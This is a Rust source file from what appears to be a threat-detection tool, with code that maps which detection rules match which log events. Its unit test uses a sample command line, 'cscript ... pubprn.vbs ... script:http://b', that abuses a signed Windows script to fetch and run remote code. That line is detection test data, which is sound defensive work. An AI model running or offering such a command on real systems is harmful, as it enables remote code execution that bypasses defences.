//! Rules against events, in an overview.

use super::Analyzer;
use crate::judge::Judged;
use crate::limits;
use crate::report::map::{MapCell, MapRow, VerdictMap};
use crate::sort::Sort;
use std::cmp::Reverse;
use std::collections::BTreeMap;

impl Analyzer {
    /// What the rules say of the events, in at most so many columns.
    pub fn map(&self, columns: u32) -> VerdictMap {
        let events = self.batch.len() as u32;
        let a_column = events.div_ceil(columns.max(1)).max(1);
        let judged = self.results.iter().enumerate();
        let rows = judged.filter_map(|(rule, judged)| row(rule as u32, judged?, a_column));
        let mut rows: Vec<MapRow> = rows.collect();
        rows.order_by_key(|row| (Reverse(row.matches), Reverse(row.open), row.rule));
        let left_out = rows.len().saturating_sub(limits::MAP_RULES) as u32;
        rows.truncate(limits::MAP_RULES);
        VerdictMap {
            events,
            events_a_column: a_column,
            rows,
            left_out,
        }
    }
}

/// `None` for a rule that nothing speaks for.
fn row(rule: u32, judged: &Judged, a_column: u32) -> Option<MapRow> {
    let matches = judged.answers.must.indices();
    let open = judged.evidence.indices();
    if matches.is_empty() && open.is_empty() {
        return None;
    }
    let mut cells: BTreeMap<u32, MapCell> = BTreeMap::new();
    let mut cell = |event: u32, count: fn(&mut MapCell)| {
        let column = event / a_column;
        let cell = cells.entry(column).or_insert(MapCell {
            column,
            first: event,
            ..MapCell::default()
        });
        count(cell);
    };
    for event in &matches {
        cell(*event, |cell| cell.matches += 1);
    }
    for event in &open {
        cell(*event, |cell| cell.open += 1);
    }
    Some(MapRow {
        rule,
        matches: matches.len() as u32,
        open: open.len() as u32,
        cells: cells.into_values().collect(),
    })
}

#[cfg(test)]
mod tests {
    use crate::analyze::{Request, RuleChoice, analyze};

    #[test]
    fn each_rule_has_the_stretches_that_it_speaks_of() {
        let quiet = "notepad.exe";
        let found = r"cscript C:\x\pubprn.vbs a script:http://b";
        let lines = [quiet, found, found, quiet, quiet, quiet, found];
        let done = analyze(Request {
            text: lines.join("\n"),
            rules: RuleChoice {
                pack: Some("t1216".into()),
                ..RuleChoice::default()
            },
            ..Request::default()
        });
        let map = done.map(4);
        assert_eq!((map.events_a_column, map.columns()), (2, 4));
        let row = &map.rows[0];
        assert_eq!(
            done.rules()[row.rule as usize].title,
            "Pubprn.vbs Proxy Execution"
        );
        assert_eq!((row.matches, map.left_out), (3, 0));
        let cells: Vec<(u32, u32, u32)> = row
            .cells
            .iter()
            .map(|cell| (cell.column, cell.matches, cell.first))
            .collect();
        assert_eq!(cells, [(0, 1, 1), (1, 1, 2), (3, 1, 6)]);
        assert_eq!(done.map(100).events_a_column, 1);
        assert_eq!(analyze(Request::default()).map(9).columns(), 0);
    }
}
